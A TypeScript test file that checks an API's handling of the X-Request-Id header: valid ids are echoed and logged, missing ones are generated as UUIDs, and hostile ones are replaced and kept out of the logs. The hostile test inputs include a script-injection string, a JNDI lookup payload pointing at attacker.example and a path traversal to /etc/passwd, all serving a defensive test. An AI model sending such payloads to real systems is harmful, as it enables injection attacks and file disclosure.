import { type RunningApi, startApi } from '@benchside/test-kit/start-api';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;

interface LogLine {
  reqId?: string;
  msg?: string;
}

describe('request ids (X-Request-Id)', () => {
  let api: RunningApi;
  const lines: string[] = [];
  beforeAll(async () => {
    // JSON lines as production writes them (createLogger with NODE_ENV=production).
    api = await startApi({ logger: pino({ level: 'info' }, { write: (line: string) => lines.push(line) }) });
  });
  afterAll(async () => {
    await api.close();
  });

  /** The request's completion line: the one log line every answered request writes. */
  function completionLineOf(requestId: string): LogLine | undefined {
    return lines
      .map((line) => JSON.parse(line) as LogLine)
      .find((line) => line.reqId === requestId && line.msg?.startsWith('GET /api/health 200'));
  }

  it('keeps the 32-hex id nginx passes as $request_id, answers it and logs it', async () => {
    const requestId = '0f4e9bb1c7d24e6f8a1b2c3d4e5f6a7b';
    const response = await fetch(`${api.url}/api/health`, { headers: { 'x-request-id': requestId } });
    expect(response.headers.get('x-request-id')).toBe(requestId);
    await expect.poll(() => completionLineOf(requestId)).toBeDefined();
  });

  it('makes one up when none is sent, and logs that one', async () => {
    const response = await fetch(`${api.url}/api/health`);
    const requestId = response.headers.get('x-request-id') ?? '';
    expect(requestId).toMatch(UUID);
    await expect.poll(() => completionLineOf(requestId)).toBeDefined();
  });

  it.each([
    ['too long', 'a'.repeat(65)],
    ['spaces (two ids joined by a proxy)', 'abc, def'],
    ['markup', '<script>alert(1)</script>'],
    ['a lookup pattern', `\${jndi:ldap://attacker.example/a}`],
    ['a path', '../../etc/passwd'],
    ['non-ASCII', 'idé'],
  ])(
    'replaces a hostile id (%s) with one of its own, in the answer and in the log',
    async (_what, hostile) => {
      const response = await api.app.inject({
        method: 'GET',
        url: '/api/health',
        headers: { 'x-request-id': hostile },
      });
      const requestId = String(response.headers['x-request-id']);
      expect(requestId).toMatch(UUID);
      await expect.poll(() => completionLineOf(requestId)).toBeDefined();
      expect(lines.join('\n')).not.toContain(hostile);
    },
  );
});
